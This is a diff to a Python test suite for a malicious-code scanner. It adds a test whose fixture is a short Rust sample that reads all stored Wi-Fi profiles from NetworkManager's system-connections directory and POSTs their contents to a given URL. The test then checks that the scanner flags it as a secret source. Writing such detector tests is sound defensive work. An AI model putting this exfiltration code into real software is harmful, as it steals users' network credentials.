@@ -609,3 +609,19 @@ def test_the_names_a_web_servers_code_hides_are_read_without_a_sink() -> None:
     found = {e.rule for e in scan.findings}
     assert {"capability-web-server", "threat-hidden-script-tag"} <= found
     assert scan.verdict.value == "malicious"
+
+
+def test_the_system_s_stores_of_secrets_listed_and_read() -> None:
+    # Wi-Fi keys of every profile, read as root and posted
+    source = """
+const PROFILES: &str = "/etc/NetworkManager/system-connections";
+fn collect() -> String {
+    let mut all = String::new();
+    for entry in std::fs::read_dir(PROFILES).into_iter().flatten().flatten() {
+        if let Ok(text) = std::fs::read_to_string(entry.path()) { all.push_str(&text); }
+    }
+    all
+}
+pub fn sync(url: &str) { let _ = ureq::post(url).send_string(&collect()); }
+"""
+    assert sources(source) == [("system-secret",)]
